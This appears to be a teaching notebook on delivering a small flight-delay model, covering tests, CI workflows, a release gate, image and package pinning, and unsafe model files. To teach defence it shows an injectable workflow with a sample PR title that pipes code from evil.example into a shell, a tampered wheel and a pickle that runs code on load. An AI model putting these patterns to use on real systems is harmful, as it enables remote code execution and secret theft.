# ---
# jupyter:
#   kernelspec:
#     display_name: Python 3 (ipykernel)
#     language: python
#     name: python3
# ---

# %% [markdown]
"""
# Delivery

A change is made on a laptop; a week later it decides about passengers. In this lesson you build what lies between: tests of code, data and model, a workflow that runs them, a gate, and locks on all that comes in from outside.
"""

# %% [markdown]
"""
## A small system with three kinds of tests
<!-- objective: test_the_parts -->

The connection desk keeps a fallback for the hours when the service is down: the share of late flights for each hour of the day. It is a model, only a small one. You will deliver it properly, in a repository of its own in a temporary folder. Its data is every fourth flight of April; a cancelled one has no delay.

Tests of *code* check rules on examples that one can work out by hand. Tests of *data* check what arrives. Tests of the *model* train it and ask what any sound model of this kind must show [@effective_testing_for_ml_systems]. Read the program and the three files of tests.
"""

# %%
from pathlib import Path
from tempfile import TemporaryDirectory

import pandas as pd

from flightdelay.clone import WORKFLOW, Clone
from groundschool import quiz

pd.options.display.max_colwidth = 120
temporary = TemporaryDirectory()
clone = Clone(Path(temporary.name))
for name in ("desk.py", "test_code.py", "test_data.py", "test_model.py"):
    print(f"# {name}\n{clone.read(name)}")

# %% [markdown]
"""
Passing tests say little until you know what makes them fail. So plant six faults, one at a time, run all tests, and put the file back.

:::{question}
Which of the three files will find each fault? One fault gets past all of them. Which?
:::
"""

# %%
faults = {
    "15 minutes count as late": ("desk.py", "> 15", ">= 15"),
    "delays arrive in seconds": ("flights.csv", r",(-?\d+)", lambda delay: f",{60 * int(delay[1])}"),
    "an hour 24 arrives": ("flights.csv", "\n23,", "\n24,"),
    "late and on time swapped": ("desk.py", r"sum\(late\)", "1 - sum(late)"),
    "only the last flight of an hour counts": ("desk.py", r"sum\(late\) / len\(late\)", "late[-1]"),
    "cancelled counts as on time": ("desk.py", r'if (row\["delay"\]):', r"\1 = \1 or 0\n        if True:"),
}
found = {"no fault": clone.failing()} | {name: clone.failing(*fault) for name, fault in faults.items()}
pd.Series(found).to_frame("found by")

# %% [markdown]
"""
Each kind of test sees what the others cannot. Seconds for minutes are no fault of the code; a swapped answer passes each check of the data. And counting cancelled flights as on time breaks nothing that anybody thought of: the table only becomes a little too hopeful.

A test that would find it needs no expected number. It says what must *not* matter: adding cancelled flights leaves the model as it is. Such tests of training code belong to the specification of a model as much as its features do [@ml_test_score].
"""

# %%
harmless = """
def test_cancelled_flights_change_nothing():
    rows = read("flights.csv")
    assert train(rows + [{"hour": "20", "delay": ""}] * 50) == train(rows)
"""
clone.write("test_model.py", clone.read("test_model.py") + harmless)
clone.failing(*faults["cancelled counts as on time"])

# %% [markdown]
"""
## The first check is on your own machine
<!-- objective: keep_strangers_out -->

The repository gets its first commit, made in a hurry: with a file of settings that contains a key. (It is the example key from Amazon's own manual and opens nothing.) A day later somebody notices and removes it.

:::{question}
Where is the key after the second commit: nowhere, in the older commit on this machine, or in each clone?
:::
"""

# %%
KEY = "AKIA" + "IOSFODNN7EXAMPLE"
clone.commit("Settings of the desk", settings=f"KEY = '{KEY}'\n")
clone.commit("No key in here", settings="KEY = None\n")
print("in the files: ", KEY in clone.read("settings.py"))
print(clone.call("git", "log", "--reverse", "--format=in the history: %s", f"-S{KEY}").stdout)

# %% [markdown]
"""
Both commits are listed: the one that brought the key and the one that took it away, and whoever clones the repository gets them. Removing a secret from a file does not unsay it. The cure is to *revoke* it where it was issued; rewriting history comes after that, if at all [@pro_git]. Settings that differ from place to place, keys above all, belong in the environment [@twelve_factor_app].

Better to stop it at the door. *pre-commit* runs checks each time you commit. Hooks usually come from repositories on the net; a `local` one is written right here.
"""

# %%
hooks = """\
repos:
  - repo: local
    hooks:
      - {id: keys, name: no keys in files, language: pygrep, entry: "AKIA[0-9A-Z]{16}", files: ""}
      - {id: tests, name: tests of the code, language: system, entry: python -m pytest -q test_code.py,
         types: [python], pass_filenames: false}
"""
clone.write(".pre-commit-config.yaml", hooks)
clone.call("pre-commit", "install")
print(clone.commit("The key again", settings=f"KEY = '{KEY}'\n"))

# %% [markdown]
"""
## A workflow that anybody can start
<!-- objective: keep_strangers_out -->

The commit was refused. But a hook is a courtesy: it lives in one clone, and `git commit --no-verify` passes it by. What has to hold for everybody is checked where nobody can skip it, in the *workflow*: a file in the repository that says which jobs a hired machine runs on which event [@github_actions].

A colleague has written one. It greets whoever proposes a change, and runs the tests. We check it against the schema of all workflows, and with zizmor, a linter that reads workflows as an attacker would [@zizmor].

:::{question}
Nine lines. How many things could a stranger make use of? Name two, and say whether a schema can see them.
:::
"""

# %%
careless = """\
on: pull_request_target
jobs:
  test:
    runs-on: ubuntu-latest
    permissions: write-all
    steps:
      - uses: actions/checkout@v4
      - run: echo "Thank you for ${{ github.event.pull_request.title }}"
      - run: python -m pytest -q
"""
findings = clone.lint_workflow(careless)
schema = clone.call("check-jsonschema", "--builtin-schema", "vendor.github-workflows", WORKFLOW)
print("the schema:", schema.stdout)
findings

# %% [markdown]
"""
The schema is content: each key is known and each value has the right type. zizmor is not. Put its findings together. Anybody with an account may propose a change (`pull_request_target` starts the job with *our* rights), and its title is pasted into a script before the script runs. A title such as `"; curl evil.example | sh; "` becomes part of the program, with a token that may write everything. `@v4` is a label that its owner, or whoever has stolen his account, can move to other code tomorrow. And the checkout leaves its token in the folder (`artipacked`), for whatever runs next.

The mended workflow takes the event without rights, grants what it needs, pins each action by the digest of its commit, and has three jobs.
"""

# %%
from flightdelay.clone import SOUND_WORKFLOW

print(SOUND_WORKFLOW)
print("findings:", len(clone.lint_workflow(SOUND_WORKFLOW)))

# %% [markdown]
"""
## Run it, and let it stop
<!-- objective: run_the_workflow -->

No finding is left. A hired machine is not needed to run it: `flightdelay.ci` reads the file, puts the jobs in the order of their `needs`, and starts each `run:` step in turn, in a clean environment. It passes actions over, and it refuses what it does not understand, such as expressions, pipes or a matrix: half a run would look like a whole one.

Run it twice: first with a fault, delays in seconds, then with sound data.

:::{question}
Written first in the file is `model`, then `code` and `data`. Which steps will run the first time, and in what order?
:::
"""

# %%
import re

from flightdelay.ci import plan, read_workflow, run


def verdicts(data):
    clone.write("flights.csv", data)
    results = run(plan(read_workflow(clone.folder / WORKFLOW)), clone.folder)
    return pd.Series(
        {each.step.name: "ok" if each.passed else "FAILED" for each in results if each.step.commands}
    )


sound = clone.read("flights.csv")
in_seconds = re.sub(*faults["delays arrive in seconds"][1:], sound)
runs = {"delays in seconds": verdicts(in_seconds), "sound": verdicts(sound)}
pd.DataFrame(runs).fillna("never started").sort_index()

# %% [markdown]
"""
`code` and `data` need nothing, so they come first; `model` needs both, and the first time it never starts. That order is no matter of taste. Cheap checks come before dear ones, and nothing is trained on data that a test has refused. On hired machines `code` and `data` would run side by side.

This is *continuous integration*: each change, of code, of data or of a model's settings, meets the same checks, run by a machine, before it joins the rest [@continuous_delivery_for_ml]. It also keeps reviews honest. The reviewer reads what the change *means*; the machine has already run it.
"""

# %%
quiz("delivery", "order_of_jobs")

# %% [markdown]
"""
## A model that crashes nothing
<!-- objective: gate_and_deliver -->

Whether a model may replace the one in service is for a *gate* to say: on flights that neither was trained on, against what was promised [@ml_test_score]. The model in service knows the schedule. Three challengers, trained on the same months, know the weather too.

The second has each late flight three times in its training, "so that it takes them seriously". For the third somebody joined the outcomes of JFK by their position in the file, and that file was sorted the other way round.

:::{question}
All three have a good AUC. The gate asks for an AUC no lower than the champion's, and that predicted over observed keeps the promised range. Which pass?
:::
"""

# %%
from flightdelay.features import SCHEDULE_FEATURES, SERVED_FEATURES
from flightdelay.model import risk, train
from flightdelay.replay import year_of_frames

frames = year_of_frames(share=0.15, months=(2, 3, 4, 5))
past, may = pd.concat([frames[month] for month in (2, 3, 4)], ignore_index=True), frames[5]
joined, at_jfk = past.copy(), past["origin"] == "JFK"
joined.loc[at_jfk, "late"] = past.loc[at_jfk, "late"].to_numpy()[::-1]
often = pd.concat([past, *[past[past["late"]]] * 2])
models = {"champion": train(past, SCHEDULE_FEATURES), "weather": train(past, SERVED_FEATURES)}
models |= {"late three times": train(often, SERVED_FEATURES), "JFK joined": train(joined, SERVED_FEATURES)}

# %%
from flightdelay.evaluate import score
from flightdelay.gate import decide
from flightdelay.requirements import requirements

risks = {name: risk(model, may) for name, model in models.items()}
scores = {name: score(may["late"], given) for name, given in risks.items()}
rows = {}
for name, seen in scores.items():
    verdict = decide(seen, scores["champion"], requirements())
    rows[name] = [round(seen.auc, 2), round(seen.predicted_over_observed, 2), "; ".join(verdict.reasons)]
pd.DataFrame.from_dict(rows, orient="index", columns=["AUC", "predicted / observed", "refused because"])

# %% [markdown]
"""
The gate stops the model that cries wolf: an AUC of {{scores["late three times"].auc:.2f}}, and {{scores["late three times"].predicted_over_observed:.1f}} predicted for each late flight. The AUC looks at ranks only, and a rank does not change when all risks rise. The desk compares risks with a threshold, and would now move passengers from flights that leave on time.
"""

# %%
from flightdelay.evaluate import reliability
from flightdelay.figures import figure, show

fig, ax = figure(
    "The same ranks, other risks (May)", x="mean risk of a tenth of the flights", y="share that was late"
)
ax.plot([0, 0.8], [0, 0.8], color="grey", linewidth=1)
for name, style in (("weather", "o-"), ("late three times", "s--")):
    tenths = reliability(may["late"], risks[name])
    ax.plot(tenths["predicted"], tenths["observed"], style, label=name)
ax.legend(loc="upper left")
worst = reliability(may["late"], risks["late three times"]).iloc[-1]
alt = f"The weather model stays near the diagonal. The other lies far to the right of it: where it says {worst['predicted']:.0%}, {worst['observed']:.0%} were late."
show(fig, alt=alt)

# %% [markdown]
"""
The model with JFK's outcomes mixed up *passes*. Nothing is wrong with it on the whole.

:::{question}
A third of the flights leave from JFK. What will its AUC be there, and what does the champion reach?
:::
"""

# %%
from flightdelay.evaluate import by_slice

airports = pd.DataFrame(
    {name: by_slice(may, given, "origin")["auc"] for name, given in risks.items()}
).sort_index()
fig, ax = figure("AUC by airport (May)", x="AUC (0.5 is guessing)", y="")
for name, style in {"champion": "o", "weather": "s", "JFK joined": "X"}.items():
    ax.plot(airports[name], airports.index, style, markersize=9, label=name)
ax.set_xlim(0.5, 0.85)
ax.legend(loc="lower right")
at = airports.loc["JFK"]
alt = f"At JFK the wrongly joined model has {at['JFK joined']:.2f}, the champion {at['champion']:.2f}. "
show(fig, alt=alt + "At the two other airports it is ahead of the champion.")

# %% [markdown]
"""
{{at["JFK joined"]:.2f}}: hardly better than a coin, and hidden by the other two airports. Our requirements forbid it (`slice_gap`, at most {{requirements().quality.slice_gap.most}}), but `decide` was given scores over all flights and cannot know. A gate guards what it is shown.

So widen it. The promise is about the distance from the whole to the worst slice. Note `skipna=False`: an airport whose AUC is NaN, not measured, makes the gap NaN, and no promise is kept by NaN. Left to its defaults, pandas would skip that airport.
"""


# %%
def reasons_against(name):
    reasons = list(decide(scores[name], scores["champion"], requirements()).reasons)
    gap = scores[name].auc - airports[name].min(skipna=False)
    if not requirements().quality.slice_gap.kept(gap):
        reasons.append(f"{airports[name].idxmin()} lags behind the whole by {gap:.2f}")
    return reasons


pd.Series({name: "; ".join(reasons_against(name)) or "passes" for name in models}).to_frame("verdict")

# %% [markdown]
"""
## From the gate to the desk
<!-- objective: gate_and_deliver -->

A model that passed has not arrived. *Delivery* copies it to where it is asked, turns the pointer that says which version serves, and then asks the running system itself: a *smoke test*. Versions stay side by side, so that going back is turning the pointer [@continuous_delivery_for_ml].

Here the store is a folder, and the desk a function that reads whatever version the pointer names.

Deliver the good model twice. The first time the desk's program fills gaps in the weather with zeros before it asks, a line that somebody added to get rid of a warning. Training never did so.

:::{question}
Will the desk crash, answer wrongly, or answer as before? What can the gate know of it?
:::
"""

# %%
from flightdelay.model_file import load, save

store = clone.folder / "released"
store.mkdir(exist_ok=True)
pointer = store / "champion"


def zeros(flights):
    return flights.fillna(dict.fromkeys(flights.select_dtypes("number"), 0))


def desk(flights, prepare=lambda flights: flights):
    return risk(load(store / pointer.read_text()), prepare(flights))


save(models["champion"], store / "schedule")


# %%
def deliver(name, ask):
    if reasons := reasons_against(name):
        return "refused: " + "; ".join(reasons)
    before, known = pointer.read_text(), may.head(200)
    save(models[name], store / name)
    pointer.write_text(name)
    if abs(ask(known) - risk(models[name], known)).max() < 1e-6:
        return f"{name} serves"
    pointer.write_text(before)
    return f"smoke test failed: {before} serves again"


pointer.write_text("schedule")
tries = {"JFK joined": desk, "weather, gaps as 0": lambda flights: desk(flights, zeros), "weather": desk}
pd.Series({name: deliver(name.split(",")[0], ask) for name, ask in tries.items()}).to_frame("outcome")

# %% [markdown]
"""
It answers, wrongly, and nothing crashes. The gate judged the model; only a question to the *running* system, with an answer known beforehand, tests the path from data to desk. That is what an integration test is for: each part was right, and the whole was not. At Google, of the outages of a large pipeline over more than ten years, most had little to do with machine learning [@how_ml_breaks].
"""

# %% [markdown]
"""
## What runs is what was tested
<!-- objective: pin_what_runs -->

The program is tested, and then installed on another machine, with another Python and other packages. A *container image* ships the program with its system. Its recipe is a Dockerfile: each line adds a layer, and a layer is built again only if its line, its files or a layer below has changed.

:::{question}
Which of the five lines below would you send back in a review, and why?
:::
"""

# %%
hasty = """\
FROM python:latest
ADD . /app
WORKDIR app
RUN pip install -r /app/requirements.txt
CMD python -m desk serve
"""
clone.lint_dockerfile(hasty)

# %% [markdown]
"""
The linter is hadolint, and it sees each line. What it cannot see is what matters most. The whole folder is copied *before* the packages are installed, so every change of a comment installs them all again. The program runs as root. And a tag, also one with a number, may point to another image tomorrow; only a digest names bytes.
"""

# %%
digest = "sha256:" + "0123456789abcdef" * 4
careful = f"""\
FROM python:3.13-slim@{digest}
WORKDIR /app
COPY requirements.lock .
RUN pip install --no-cache-dir --require-hashes -r requirements.lock
COPY desk.py .
USER 10001
CMD ["python", "desk.py", "serve"]
"""
as_root = careful.replace("USER 10001\n", "").replace(f"@{digest}", "")
recipes = {"careful": careful, "as root, without a digest": as_root}
pd.Series({name: len(clone.lint_dockerfile(text)) for name, text in recipes.items()}).to_frame("findings")

# %% [markdown]
"""
No finding for either: a silent linter is no review. (The digest is made up; yours comes from the registry.)

`--require-hashes` does for packages what the digest does for the image. Try it, offline, with a package of our own, deskfonts. A wheel is a zip file; the lock names its version *and* the SHA-256 of its bytes. Then somebody replaces the file in the mirror: the same name, the same version, one line more.

:::{question}
What will pip do, with hashes and without?
:::
"""

# %%
sha256 = clone.build_wheel("SIZE = 12")
clone.write("requirements.lock", f"deskfonts==1.0 --hash=sha256:{sha256}\n")
clone.build_wheel("SIZE = 12\nprint('I read your environment')")
print("without hashes:", clone.install("deskfonts==1.0"))
print("with hashes:   ", clone.install("--require-hashes", "-r", "requirements.lock"))

# %% [markdown]
"""
The version number is a name that anybody can give. The hash is the thing itself. So when two locks are compared in a review, the line to fear is not a new version but the same version with another hash; it belongs in front of a human, and so does each package that nobody asked for [@slsa].

Who runs the system should hear of each such change before it runs. For that one needs the list of what is in it, with versions: a *bill of materials* (SBOM). In Python, `importlib.metadata.distributions()` gives its core.
"""

# %% [markdown]
"""
## A model file is a program
<!-- objective: keep_strangers_out -->

One thing still comes in unchecked: the model. The usual way to keep a Python object is a *pickle*. Its format is a list of instructions, and one of them is "call this function with these arguments".

`pickletools` lists the instructions without following them. Then we load the file with `pickle.loads`, and never use the result.

:::{question}
When does the function in it run: on listing, on loading, or on use?
:::
"""

# %%
import pickle
import pickletools


class Model:
    def __reduce__(self):
        return print, ("A stranger's code runs on your machine.",)


stranger = pickle.dumps(Model())
for instruction, argument, _place in pickletools.genops(stranger):
    if instruction.name in {"SHORT_BINUNICODE", "STACK_GLOBAL", "REDUCE"}:
        print(instruction.name, argument or "")
print("Now it is loaded.")
_ = pickle.loads(stranger)  # noqa: S301 (our own bytes, and all they can do is print)

# %% [markdown]
"""
On loading, at once: fetch `print` from `builtins`, and call it. No check after loading can come in time, and `print` might have been any function. So the desk's models are kept in the skops format, which holds arrays and names of types, and builds only types that are on a list [@skops]. Hand our loader the pickle, and then a skops file with a type that no model of ours has.
"""

# %%
import subprocess

from skops import io

from flightdelay.model_file import UntrustedModelError

(store / "pickle").write_bytes(stranger)
io.dump({"helper": subprocess.Popen}, store / "odd.skops")
for name in ("pickle", "odd.skops"):
    try:
        load(store / name)
    except UntrustedModelError as error:
        print(str(error).replace("\n", " ")[:96])
temporary.cleanup()

# %% [markdown]
"""
Both are refused, and nothing ran. A hash in the registry then says that the file is the one that passed the gate, as for a package. That a model *decides* what it was trained to decide is a third question, and no file format answers it: training data can be poisoned too [@mitre_atlas].
"""

# %% [markdown]
"""
## What to keep

- Tests of code, data and model see different faults. Plant faults to learn which, and add the test that says what must not matter.
- A workflow is a program that strangers can start: no untrusted text in a script, few rights, actions pinned by digest. Run it, cheap checks first, and stop at the first failure.
- A gate guards what it is shown: ranks, calibration and the worst slice, and NaN never passes. After delivery ask the running system, and keep the way back open.
- Pin packages and images by the hash of their bytes. The same version with another hash is an alarm.
- A secret in the history is out, and a pickle is a program. Revoke the one and do not load the other.
"""
